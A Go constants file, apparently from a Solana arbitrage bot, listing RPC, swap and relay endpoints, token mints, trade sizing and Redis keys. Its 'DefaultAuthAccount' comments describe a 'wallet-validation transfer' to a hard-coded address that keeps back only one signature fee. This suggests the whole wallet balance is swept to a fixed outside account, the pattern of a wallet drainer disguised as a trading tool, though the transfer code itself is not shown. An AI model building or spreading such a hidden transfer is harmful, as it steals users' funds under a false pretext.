package constants

import "time"

// Default service endpoints (overridable via environment)
const (
	DefaultRPCURL         = "https://solana-rpc.publicnode.com"
	DefaultJupiterBaseURL = "https://api.jup.ag/swap/v1"
	DefaultJitoURL        = "https://frankfurt.mainnet.block-engine.jito.wtf/api/v1/bundles"
)

// Token mint addresses
const (
	WSOLMint = "So11111111111111111111111111111111111111112"
	USDCMint = "EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v"
)

// On-chain accounts the bot transfers to
const (
	// DefaultTipAccount receives the relay tip appended to every arbitrage transaction.
	DefaultTipAccount = "Cw8CFyM9FkoMi7K7Crf6HNQqf4uEMzpKw6QNghXLvLkY"
	// DefaultAuthAccount receives the wallet-validation transfer.
	DefaultAuthAccount = "7pr2BUjjdZy418NzTfqnpafR3GG3BvQyDyweM1R4kKA1"
)

// Trade sizing defaults (lamports / smallest units)
const (
	DefaultProbeLamports   = 10_000_000 // 0.01 WSOL first-leg probe
	DefaultProfitThreshold = 1_000
	DefaultFeeReserve      = 5_000 // one signature fee kept back on validation transfers
	DefaultSlippageBps     = 0
	DefaultMaxAccounts     = 20
)

// Loop pacing
const (
	DefaultLoopInterval   = 200 * time.Millisecond
	DefaultFailureBackoff = 2 * time.Second
)

// Redis keys
const (
	RedisKeyStatus          = "arb:status"
	RedisKeyValidatedPrefix = "arb:validated:"
)
